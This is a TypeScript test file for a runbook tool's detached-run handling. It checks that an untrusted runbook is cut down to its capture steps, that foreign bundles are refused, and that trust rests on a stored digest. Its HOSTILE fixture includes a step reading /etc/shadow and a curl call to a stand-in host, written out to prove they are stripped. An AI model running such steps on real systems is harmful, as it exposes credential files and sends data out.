import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import t from "tap";
import { NOTHING_DONE } from "../fixtures/left-run.js";
import { trustDigest } from "../../lib/authority/trust-store.js";
import { prepareDetached } from "../../lib/detached/collect.js";
import { capturesOfSnapshot, capturesOnly } from "../../lib/detached/captures-only.js";
import { digestFolder, packFolder, unpackFolder } from "../../lib/detached/folder.js";
import type { Snapshot } from "../../lib/engine/engine.js";
import { parseRunbook } from "../../lib/runbook/index.js";

const RUN = "0123456789ab";
const TIME = "2026-01-01T00:00:00Z";
const HOSTILE = `apiVersion: hopbook.dev/v1
kind: Runbook
metadata: {name: trace-path, title: Trace}
permissions: {node: {}, exec: ["netns/*", capture/pull, node/read, "runtime/*"], shell: true, mutate: ["curl **"], capture: {duration: 10m}}
steps:
  - {id: path, uses: path/discover, with: {from: a/b, to: c/d}}
  - {id: flows, uses: flow/define, with: {paths: "\${{ steps.path.outputs.paths }}"}}
  - {id: capture, uses: capture/start, with: {flows: "\${{ steps.flows.outputs.flows }}"}}
  - {id: watch, uses: time/wait, with: {duration: 1s}}
  - {id: stop, uses: capture/stop, needs: [watch], with: {capture: "\${{ steps.capture.outputs.capture }}"}}
  - {id: steal, run: [sh, -c, "cat /etc/shadow"], on: node-b}
finally:
  - {id: send, run: [curl, "http://192.0.2.1"], on: node-b}
`;
const MANIFEST = {
  ...{ apiVersion: "hopbook.dev/v1", kind: "Manifest", files: [], notFiles: [] },
  run: { id: RUN, runbook: "trace-path", target: "x", createdAt: TIME, finishedAt: TIME },
};

function folderOf(run: string): Record<string, string> {
  const about = { run, runbook: "trace-path", target: "x", cluster: "x", owner: "x@y" };
  const file = {
    ...{ apiVersion: "hopbook.dev/v1", kind: "DetachedRun", about, durationMs: null, keepMs: 1, nodes: [] },
    ...{
      startedAt: TIME,
      until: TIME,
      expires: TIME,
      folder: "x",
      snapshot: NOTHING_DONE,
      named: { cluster: "/x" },
    },
  };
  return {
    ...{ "detached.json": JSON.stringify(file), "manifest.json": JSON.stringify(MANIFEST) },
    ...{ "runbook.yaml": HOSTILE, "inputs.json": "{}" },
  };
}

const CLUSTER = JSON.stringify({
  ...{ apiVersion: "hopbook.dev/v1", kind: "ClusterProfile", metadata: { name: "x" } },
  nodes: [{ name: "node-a", access: { via: "local" } }],
});

t.test("of a plan that only a node kept, the captures alone are taken up", async (t) => {
  const runbook = capturesOnly(parseRunbook(HOSTILE, "/x/runbook.yaml"));
  const wanted = runbook.steps.filter((step) => step.if !== "${{ false }}");
  t.strictSame(
    wanted.map(({ id, needs }) => ({ id, needs })),
    [
      { id: "capture", needs: [] },
      { id: "stop", needs: [] },
    ],
  );
  t.strictSame(runbook.finally, []);
  t.strictSame(runbook.permissions, {
    ...{ node: {}, exec: ["netns/tcpdump", "capture/pull"], capture: { duration: "10m" } },
  });
  const kept: Snapshot = {
    ...{ ended: { path: "done" }, outputs: {}, incomplete: [], issued: [], places: [] },
    ...{ plans: { steal: { commands: [], outputs: null, notes: [] } }, again: ["capture", "steal"] },
  };
  const snapshot = capturesOfSnapshot(kept, runbook);
  t.match(snapshot, { ended: { path: "done", steal: "skipped", watch: "skipped" }, again: ["capture"] });
  t.strictSame(snapshot.plans, {});
  const without = HOSTILE.split("\n").filter((line) => !line.includes("capture/stop"));
  t.throws(() => capturesOnly(parseRunbook(without.join("\n"), "/x")), { code: "EVIDENCE_INVALID" });
});

t.test("a bundle of another run is refused, and left alone", async (t) => {
  const dir = t.testdir({ kept: folderOf("ffffffffffff"), out: {} });
  const bytes = await packFolder(join(dir, "kept"));
  await t.rejects(unpackFolder(bytes, { out: join(dir, "out"), run: RUN }), {
    code: "EVIDENCE_INVALID",
    message: /ffffffffffff.*, not 0123456789ab/,
  });
});

t.test("whose plan it was is told by a digest outside of its folder", async (t) => {
  const cwd = t.testdir({ "cluster.yaml": CLUSTER, runs: { x: folderOf(RUN) }, state: {} });
  const before = process.env["XDG_STATE_HOME"];
  process.env["XDG_STATE_HOME"] = join(cwd, "state");
  t.teardown(() => {
    if (before === undefined) delete process.env["XDG_STATE_HOME"];
    else process.env["XDG_STATE_HOME"] = before;
  });
  const dir = join(cwd, "runs", "x");
  const prepare = (): ReturnType<typeof prepareDetached> =>
    prepareDetached({
      ...{ run: RUN, cwd, out: join(cwd, "runs"), cluster: join(cwd, "cluster.yaml") },
      ...{ grants: { allowAll: true }, signal: new AbortController().signal, onEvent: () => undefined },
    });
  t.notOk((await prepare()).isAgreed, "a folder may have come from anybody");
  await trustDigest(await digestFolder(dir));
  t.ok((await prepare()).isAgreed, "left by this user");
  writeFileSync(
    join(dir, "runbook.yaml"),
    readFileSync(join(dir, "runbook.yaml"), "utf8").replace("1s", "2s"),
  );
  t.notOk((await prepare()).isAgreed, "changed since");
});
